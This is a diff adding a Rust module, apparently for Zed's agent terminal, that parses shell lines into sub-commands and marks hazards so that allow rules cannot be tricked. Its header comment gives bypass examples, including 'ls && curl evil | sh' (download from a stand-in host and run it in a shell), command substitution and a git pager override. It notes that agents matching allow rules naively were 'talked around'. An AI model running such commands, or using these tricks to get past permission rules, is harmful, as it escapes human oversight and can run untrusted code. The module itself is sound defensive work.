@@ -1,0 +1,93 @@
+//! Terminal command analysis: which commands a shell line would run, and what about each
+//! one an allow rule must never vouch for.
+//!
+//! Every agent that matched allow rules against the whole string or its first word was
+//! talked around (`ls && curl evil | sh`, `echo $(…)`, `git -c core.pager=… log`). Here a
+//! command line becomes its sub-commands — including those inside `$( )`, backticks,
+//! `<( )`, subshells, groups and `sh -c` payloads — each rendered the way Zed renders them
+//! (quotes removed, words joined by one space), with file redirects as items of their own.
+//! Whatever the parser cannot vouch for turns allow rules off for the whole input.
+
+mod hazards;
+mod parser;
+mod rm_guard;
+
+pub use hazards::{Hazard, HazardKind, EXECUTING_FLAGS};
+pub use rm_guard::{catastrophic_rm, CatastrophicRm};
+
+use serde::Serialize;
+
+/// Where in the command line an item was found.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
+pub enum Context {
+    TopLevel,
+    Subshell,
+    Group,
+    CommandSubstitution,
+    ProcessSubstitution,
+    /// The script given to `sh -c`, `bash -c` and the like.
+    ShellPayload,
+}
+
+/// What an item is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
+pub enum ItemKind {
+    /// A simple command: assignments, command word, arguments.
+    Command,
+    /// A file redirection of a command, such as `> out.txt`.
+    Redirect,
+}
+
+/// One thing the command line would do, as rules see it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
+pub struct SubCommand {
+    /// The text rules are matched against: quotes removed, words joined by one space;
+    /// expansions keep their source text (`$HOME`, `$(date)`).
+    pub text: String,
+    pub kind: ItemKind,
+    pub context: Context,
+    /// The command word after leading assignments, unquoted (absent for redirects and bare assignments).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub name: Option<String>,
+    /// The words after the command word, unquoted.
+    #[serde(skip_serializing)]
+    pub args: Vec<String>,
+    /// Byte range of the item in the analysed input.
+    pub start: usize,
+    pub end: usize,
+    /// Why no allow rule may cover this item; empty when an allow rule may.
+    pub hazards: Vec<Hazard>,
+}
+
+/// The analysis of one command line.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
+pub struct ShellAnalysis {
+    pub items: Vec<SubCommand>,
+    /// Set when the line did not parse or used syntax the parser does not vouch for;
+    /// allow rules are then off for the whole line.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub cannot_vouch: Option<String>,
+}
+
+impl ShellAnalysis {
+    /// Whether any item carries an expansion or substitution hazard.
+    pub fn has_expansion(&self) -> bool {
+        self.items.iter().any(|item| item.hazards.iter().any(|h| h.kind == HazardKind::Expansion))
+    }
+}
+
+/// Analyses a POSIX/bash command line.
+pub fn analyze(command: &str) -> ShellAnalysis {
+    parser::parse(command)
+}
+
+#[cfg(test)]
+mod tests;
